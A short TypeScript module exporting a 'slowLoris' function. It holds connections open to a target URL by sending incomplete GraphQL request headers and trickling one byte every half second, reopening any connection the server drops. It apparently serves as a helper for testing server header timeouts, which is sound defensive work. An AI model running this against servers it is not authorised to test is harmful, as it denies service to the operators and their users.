import { connect } from 'node:net';

/** Connections that never finish their headers, a byte each half second; what the server closes is opened anew. */
export function slowLoris(url: string, connections: number): { stop(): void } {
  const { port, hostname } = new URL(url);
  const open = () => {
    const socket = connect(Number(port), hostname, () => socket.write('POST /graphql HTTP/1.1\r\nhost: localhost\r\n'));
    return socket.on('error', () => undefined).resume();
  };
  const sockets = Array.from({ length: connections }, open);
  const trickle = setInterval(() => {
    for (const [i, socket] of sockets.entries()) {
      if (socket.destroyed) sockets[i] = open();
      else if (socket.writable) socket.write('x');
    }
  }, 500);
  return {
    stop: () => {
      clearInterval(trickle);
      for (const socket of sockets) socket.destroy();
    },
  };
}
